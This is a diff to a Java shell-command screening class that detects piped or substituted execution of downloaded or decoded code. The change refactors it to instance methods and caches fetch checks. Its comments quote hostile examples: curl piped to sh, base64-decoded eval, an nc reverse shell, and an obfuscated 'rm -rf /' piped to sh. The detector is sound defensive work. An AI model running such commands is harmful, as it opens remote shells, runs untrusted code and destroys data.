@@ -1,6 +1,8 @@
 package dev.wingman.screening.forbidden;
 
+import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
 import java.util.Set;
 
@@ -12,6 +14,7 @@ import dev.wingman.screening.shell.Reader;
 import dev.wingman.screening.shell.Word;
 import dev.wingman.screening.shell.Word.Kind;
 import dev.wingman.screening.shell.Words;
+import dev.wingman.screening.spelling.Source;
 import dev.wingman.screening.spelling.Variables;
 
 /// Running what was just downloaded or decoded, unseen: `curl … | sh`, `bash <(curl …)`, `eval "$(base64 -d …)"`.
@@ -44,29 +47,37 @@ final class Pipes {
     private static final int LONGEST = 64;
     private static final int WRAPPED = 12;
 
-    private Pipes() {}
+    private final Words words;
+    private final boolean strict;
+    /// Whether a substitution fetches: it may be an argument of many, and is read once.
+    private final Map<Source, Boolean> fetching = new HashMap<>();
 
-    static Optional<Offence> judge(Words words, int index, Position position, boolean strict) {
+    Pipes(Words words, boolean strict) {
+        this.words = words;
+        this.strict = strict;
+    }
+
+    Optional<Offence> judge(int index, Position position) {
         var word = words.get(index);
-        if (word.before() == Gap.PIPE && CALLERS.contains(word.program()) && isShellBefore(words, index)) {
+        if (word.before() == Gap.PIPE && CALLERS.contains(word.program()) && isShellBefore(index)) {
             return Optional.of(between(words.get(index - 1), word));
         }
         if (word.before() == Gap.PIPE && index > 0 && (isRunner(word) || WRAPPERS.contains(word.program()))) {
-            return piped(words, index, strict);
+            return piped(index);
         }
         if (position.begins() && (isRunner(word) || STARTERS.contains(word.program()))) {
-            return substituted(words, index);
+            return substituted(index);
         }
         return position.isProgram() ? substitution(word, word) : Optional.empty();
     }
 
     /// A shell that answers to the network: `sh -i < /tmp/p | nc host 4444 > /tmp/p`.
-    private static boolean isShellBefore(Words words, int pipe) {
+    private boolean isShellBefore(int pipe) {
         var first = pipe - 1;
         while (first > 0 && first > pipe - WRAPPED && !words.get(first).begins()) {
             first--;
         }
-        return first >= 0 && Position.SHELLS.contains(words.get(first).program()) && readsItsInput(words, first);
+        return first >= 0 && Position.SHELLS.contains(words.get(first).program()) && readsItsInput(first);
     }
 
     /// What a shell behind a pipe is given to run, when that can be told: `printf %s%s 'r' 'm -rf /' | sh`.
@@ -86,12 +97,12 @@ final class Pipes {
         return Position.SHELLS.contains(word.program()) || INTERPRETERS.contains(word.program());
     }
 
-    private static Optional<Offence> piped(Words words, int pipe, boolean strict) {
+    private Optional<Offence> piped(int pipe) {
         var end = Math.min(words.commandEnd(pipe), pipe + WRAPPED);
         for (var shell = pipe; shell < end; shell++) {
             if (isRunner(words.get(shell))) {
-                return readsItsInput(words, shell)
-                        ? source(words, pipe, strict).map(from -> between(from, words.get(pipe)))
+                return readsItsInput(shell)
+                        ? source(pipe).map(from -> between(from, words.get(pipe)))
                         : Optional.empty();
             }
         }
@@ -99,7 +110,7 @@ final class Pipes {
     }
 
     /// Not when it is given a script: then its input is data.
-    private static boolean readsItsInput(Words words, int shell) {
+    private boolean readsItsInput(int shell) {
         for (var i = shell + 1; i < Math.min(words.commandEnd(shell), shell + WRAPPED); i++) {
             var word = words.get(i);
             if (word.redirect() != ' ') {
@@ -117,7 +128,7 @@ final class Pipes {
         return true;
     }
 
-    private static Optional<Word> source(Words words, int pipe, boolean strict) {
+    private Optional<Word> source(int pipe) {
         var begins = true;
         for (var i = pipe - 1; i >= 0 && i > pipe - LONGEST; i--) {
             var word = words.get(i);
@@ -132,7 +143,7 @@ final class Pipes {
         return Optional.empty();
     }
 
-    private static Optional<Offence> substituted(Words words, int shell) {
+    private Optional<Offence> substituted(int shell) {
         var end = Math.min(words.size(), shell + WRAPPED);
         var starter = STARTERS.contains(words.get(shell).program());
         for (var i = shell + 1; i < end; i++) {
@@ -152,18 +163,24 @@ final class Pipes {
     }
 
     /// A word that is what a fetcher prints.
-    private static Optional<Offence> substitution(Word from, Word word) {
+    private Optional<Offence> substitution(Word from, Word word) {
         for (var inner : word.inside()) {
-            if (inner.kind() == Kind.SUBSTITUTION && inner.source().text().length() < 4096) {
-                var words = Reader.read(inner.source(), false, new Variables(0));
-                for (var i = 0; i < words.size(); i++) {
-                    if (words.get(i).begins() && FETCHERS.contains(words.get(i).program())) {
-                        return Optional.of(between(from, word));
-                    }
-                }
+            if (inner.kind() == Kind.SUBSTITUTION && inner.source().text().length() < 4096
+                    && fetching.computeIfAbsent(inner.source(), Pipes::fetches)) {
+                return Optional.of(between(from, word));
             }
         }
         return Optional.empty();
+    }
+
+    private static boolean fetches(Source source) {
+        var words = Reader.read(source, false, new Variables(0));
+        for (var i = 0; i < words.size(); i++) {
+            if (words.get(i).begins() && FETCHERS.contains(words.get(i).program())) {
+                return true;
+            }
+        }
+        return false;
     }
 
     private static Offence between(Word first, Word last) {
